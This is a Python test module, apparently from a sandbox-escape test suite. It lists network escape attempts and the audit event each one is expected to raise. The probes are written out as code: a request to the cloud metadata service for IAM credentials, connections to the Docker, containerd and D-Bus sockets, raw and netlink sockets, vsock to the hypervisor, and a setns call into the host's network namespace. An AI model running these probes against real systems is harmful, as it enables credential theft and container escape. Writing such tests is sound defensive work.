"""Ways out over the network, and to sockets of the machine."""

from __future__ import annotations

from tests.escape.attempt import REFUSED, Attempt, Differs

_ANSWERED = rf"done sent|{REFUSED}"
"""The pod's own gateway answers whatever is dialled; that the machine heard nothing is what counts."""
_NO_SOCKET = "a socket that cannot be made has no event of its own: nothing can be done with it"

ATTEMPTS = (
    Attempt(
        name="tcp-to-the-machine",
        tries="to reach servers on each address of the machine over TCP",
        code="attempt(*each(lambda to: reach(to[0], socket.SOCK_STREAM, tuple(to[1])), TARGETS['tcp']))",
        word=_ANSWERED,
        told="network.connect protocol=tcp",
    ),
    Attempt(
        name="udp-to-the-machine",
        tries="to reach servers on each address of the machine over UDP",
        code="attempt(*each(lambda to: reach(to[0], socket.SOCK_DGRAM, tuple(to[1])), TARGETS['udp']))",
        word=_ANSWERED,
        told="network.connect protocol=udp",
    ),
    Attempt(
        name="tcp-out",
        tries="to send to a host of the internet over TCP",
        code="attempt(lambda: reach(socket.AF_INET, socket.SOCK_STREAM, ('203.0.113.9', 8080)))",
        word="done sent",
        told="network.connect ip=203.0.113.9 port=8080 protocol=tcp",
        finding="unknown-host-at-import",
    ),
    Attempt(
        name="udp-out",
        tries="to send to a host of the internet over UDP",
        code="attempt(lambda: reach(socket.AF_INET, socket.SOCK_DGRAM, ('203.0.113.10', 5000)))",
        word="done sent",
        told="network.connect ip=203.0.113.10 port=5000 protocol=udp",
        finding="unknown-host-at-import",
    ),
    Attempt(
        name="ipv6-out",
        tries="to send to a host of the internet over IPv6",
        code="attempt(lambda: reach(socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::9', 8080)))",
        word="done sent",
        told="network.connect ip=2001:db8::9 port=8080 protocol=tcp",
        finding="unknown-host-at-import",
    ),
    Attempt(
        name="link-local-neighbour",
        tries="to reach a neighbour on the link, over IPv4 and IPv6",
        code="""
attempt(lambda: reach(socket.AF_INET, socket.SOCK_STREAM, ("169.254.1.1", 80)),
        lambda: reach(socket.AF_INET6, socket.SOCK_STREAM, ("fe80::1", 80, 0, 1)))
""",
        word=_ANSWERED,
        told="network.connect ip=169.254.1.1 port=80",
    ),
    Attempt(
        name="broadcast-and-multicast",
        tries="to send to everybody on the link",
        code="""
def shout(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(__name__.encode(), (address, 9999))
    return "sent"
attempt(*each(shout, ["255.255.255.255", "224.0.0.251"]))
""",
        word=_ANSWERED,
        told="network.payload port=9999",
    ),
    Attempt(
        name="metadata-service",
        tries="to read the cloud's credentials of the machine",
        code="""
def ask():
    with socket.create_connection(("169.254.169.254", 80), 3) as s:
        s.sendall(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\nHost: 169.254.169.254\\r\\n\\r\\n")
        return s.recv(12).decode()
attempt(ask)
""",
        word=r"done HTTP/1\.[01] \d+",
        told="network.connect ip=169.254.169.254 port=80",
        finding="metadata-service-contacted",
    ),
    Attempt(
        name="dns-to-a-resolver-of-its-own",
        tries="to send a name to a resolver of its own choice, round the pod's",
        code="""
def ask(kind):
    question = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6escape\\7example\\0\\0\\1\\0\\1"
    with socket.socket(socket.AF_INET, kind) as s:
        s.settimeout(3)
        s.connect(("198.51.100.53", 53))
        s.send(question if kind == socket.SOCK_DGRAM else struct.pack("!H", len(question)) + question)
        return s.recv(100)[:2].hex()
attempt(*each(ask, [socket.SOCK_DGRAM, socket.SOCK_STREAM]))
""",
        word="done [0-9a-f]{4}",
        told="network.connect ip=198.51.100.53 port=53",
    ),
    Attempt(
        name="icmp-echo",
        tries="to send an echo request, raw and by the kernel's ping sockets",
        code="""
def ping(kind):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
        s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("203.0.113.11", 0))
attempt(*each(ping, [socket.SOCK_RAW, socket.SOCK_DGRAM]))
""",
        unseen=_NO_SOCKET,
    ),
    Attempt(
        name="raw-sockets",
        tries="to write packets by hand, IPv4 and IPv6",
        code="""
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
        lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
""",
        unseen=_NO_SOCKET,
    ),
    Attempt(
        name="packet-socket",
        tries="to read and write frames of the link",
        code="attempt(*each(lambda kind: socket.socket(socket.AF_PACKET, kind, 0x300), [2, 3]))",
        unseen=_NO_SOCKET,
    ),
    Attempt(
        name="vsock-to-the-hypervisor",
        tries="to reach the hypervisor, which no network namespace holds back",
        code="attempt(*each(lambda cid: reach(40, socket.SOCK_STREAM, (cid, 1024)), [0, 1, 2]))",
        unseen=_NO_SOCKET,
    ),
    Attempt(
        name="odd-socket-families",
        tries="to get at drivers by families that nobody uses: Bluetooth, kernel crypto, XDP, CAN, RDS, TIPC",
        code="attempt(*each(lambda family: socket.socket(family, socket.SOCK_DGRAM), [31, 38, 44, 29, 21, 30, 9, 43]))",
        unseen=_NO_SOCKET,
    ),
    Attempt(
        name="netlink-new-interface",
        tries="to make an interface, and with it a way out, by netlink",
        code="""
def ask(kind, flags, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(3)
        s.bind((0, 0))
        s.send(struct.pack("=IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body)
        code = struct.unpack("=i", s.recv(4096)[16:20])[0]
    if code < 0:
        raise OSError(-code, "")
    return "changed"
link = struct.pack("=BxHiII", 0, 0, 0, 1, 1) + struct.pack("=HH8s", 12, 3, b"escape0\\0")
link += struct.pack("=HHHH8s", 16, 18, 12, 1, b"dummy\\0\\0\\0")
route = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 3, 253, 1, 0) + struct.pack("=HH4s", 8, 1, b"\\xcb\\0\\x71\\x0c")
attempt(lambda: ask(16, 0x400, link), lambda: ask(24, 0x400, route))
""",
        unseen="netlink messages are not recorded; this namespace's settings are the pod's root's alone",
    ),
    Attempt(
        name="bind-to-device-and-mark",
        tries="to choose the interface and the routing mark of a socket",
        code="""
def option(level, name, value):
    with socket.socket() as s:
        s.setsockopt(level, name, value)
attempt(lambda: option(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\\0"),
        lambda: option(socket.SOL_SOCKET, 36, 1),
        lambda: option(socket.SOL_IP, 19, 1))
""",
        unseen="options of sockets are not traced; there is no other interface to choose",
        differs={
            "runsc": Differs(
                why="its network stack knows fewer options and takes some as words without a meaning",
                word=rf"done None|{REFUSED}",
            )
        },
    ),
    Attempt(
        name="unix-socket-of-the-machine",
        tries="to dial a server of the machine by its path",
        code="attempt(lambda: reach(socket.AF_UNIX, socket.SOCK_STREAM, TARGETS['path']))",
        told="network.unix path=*/host.sock errno=E*",
    ),
    Attempt(
        name="abstract-socket-of-the-machine",
        tries="to dial a server of the machine that has a name without a file",
        code="attempt(lambda: reach(socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + TARGETS['abstract']))",
        told="network.unix path=@fumehood-escape-* errno=E*",
    ),
    Attempt(
        name="datagrams-to-unix-sockets",
        tries="to send a datagram to a server of the machine, by path and by name",
        code="""
def send(address):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
        s.sendto(__name__.encode(), address)
attempt(*each(send, [TARGETS["path"], chr(0) + TARGETS["abstract"], "/dev/log", "/run/systemd/notify"]))
""",
        told="network.unix path=/dev/log errno=E*",
    ),
    Attempt(
        name="docker-socket",
        tries="to have the container engine do it",
        code="""
places = ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"]
attempt(*each(lambda path: reach(socket.AF_UNIX, socket.SOCK_STREAM, path), places))
""",
        told="network.unix path=*/docker.sock errno=E*",
        finding="container-engine-contacted",
    ),
    Attempt(
        name="message-bus-and-agents",
        tries="to have the init system or the keys' agent of the machine do it",
        code="""
places = ["/run/dbus/system_bus_socket", "/run/systemd/private", "/tmp/.X11-unix/X0", "/run/user/1000/bus"]
attempt(*each(lambda path: reach(socket.AF_UNIX, socket.SOCK_STREAM, path), places))
""",
        told="network.unix path=/run/dbus/system_bus_socket errno=E*",
    ),
    Attempt(
        name="registry-socket",
        tries="to reach the worker's registry proxy, the one thing that leads out",
        code="""
places = ["/tmp/registry.sock", "/registry.sock", "/fumehood/registry.sock", "/run/registry.sock"]
places += [f"/proc/1/root{TARGETS['bundles']}", f"{TARGETS['bundles']}/registry.sock"]
attempt(*each(lambda path: reach(socket.AF_UNIX, socket.SOCK_STREAM, path), places))
""",
        told="network.unix path=/tmp/registry.sock errno=E*",
    ),
    Attempt(
        name="network-namespace-of-the-machine",
        tries="to enter the network namespace of process 1 or of its parent",
        code="""
def enter(pid):
    descriptor = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    before = os.readlink("/proc/self/ns/net")
    if os.readlink(f"/proc/{pid}/ns/net") == before:
        raise OSError(errno.EALREADY, "the pod's own")
    syscall(308, descriptor, 0x40000000)
attempt(*each(enter, [1, watcher(), os.getppid()]))
""",
        told="file.read path=/proc/1/ns/net",
        differs={
            "runsc": Differs(
                why="gVisor's file opens under another name; the attempt to enter is what is told",
                told="kernel.namespace call=setns errno=E*",
                finding="container-escape-call",
            )
        },
    ),
)
